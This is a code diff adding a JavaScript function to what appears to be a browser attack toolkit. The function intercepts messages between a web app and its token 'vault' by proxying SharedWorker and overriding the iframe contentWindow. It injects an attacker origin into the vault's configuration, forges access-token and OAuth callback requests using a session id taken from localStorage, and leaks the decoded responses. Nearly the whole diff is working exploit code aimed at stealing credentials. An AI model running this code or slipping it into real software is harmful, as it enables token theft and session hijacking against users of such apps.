@@ -175,6 +175,71 @@ export const workers = (w, { take, spy }) => {
   spy(w.MessagePort.prototype, "postMessage");
 };
 
+/** Whatever passes between the app and its vault, by a worker's port or a frame's, passes here, and is not all that does. */
+export const between = (w, { env, take, tell }) => {
+  const { MessageChannel } = w;
+  const resources = [{ origin: env.attacker, paths: ["/"] }];
+  const order = { url: env.orders, method: "GET" };
+  const asked = [
+    { do: "accessToken" },
+    { do: "callback", query: "code=evil&state=evil", record: "{}" },
+    { do: "call", ...order },
+  ];
+  const speak = (vault) => {
+    const mark = Object.entries(w.localStorage).find(([key]) => key.endsWith(".mark"))?.[1];
+    const session = mark?.match(/^\+([^.]+)\./)?.[1];
+    asked.forEach((one, n) => {
+      const json = JSON.stringify({ v: 1, ticket: 9_000 + n, session, ...one });
+      const request = { ...order, headers: [], body: null, options: {} };
+      vault.postMessage(one.do === "call" ? { json, request } : { json });
+    });
+  };
+  const join = (app, vault) => {
+    app.onmessage = ({ data }) => {
+      take(data);
+      if (data.hello) {
+        const config = JSON.stringify({ ...JSON.parse(data.config), resources });
+        vault.postMessage({ ...data, config });
+      }
+      const body = data.request?.body;
+      vault.postMessage(data, body && typeof body === "object" ? [body] : []);
+    };
+    vault.onmessage = ({ data }) => {
+      take(data);
+      // The answer to the other hello is not the app's to see.
+      if (data.welcome === null) return;
+      if (data.welcome) setTimeout(speak, 1_000, vault);
+      if (data.chunk) tell(new TextDecoder().decode(data.chunk));
+      app.postMessage(data);
+    };
+  };
+  if (w.SharedWorker) {
+    w.SharedWorker = new Proxy(w.SharedWorker, {
+      construct(target, given) {
+        const worker = Reflect.construct(target, given);
+        const { port1, port2 } = new MessageChannel();
+        join(port1, worker.port);
+        Object.defineProperty(worker, "port", { value: port2 });
+        return worker;
+      },
+    });
+  }
+  const { prototype } = w.HTMLIFrameElement;
+  const { get } = Object.getOwnPropertyDescriptor(prototype, "contentWindow");
+  Object.defineProperty(prototype, "contentWindow", {
+    get() {
+      const real = get.call(this);
+      if (!this.src.startsWith(env.vault)) return real;
+      const postMessage = (message, target, [port]) => {
+        const { port1, port2 } = new MessageChannel();
+        join(port, port1);
+        real.postMessage(message, target, [port2]);
+      };
+      return { postMessage };
+    },
+  });
+};
+
 export const memory = (w, { memories, replace }) => {
   const keep = (exports) => {
     for (const one of Object.values(exports))
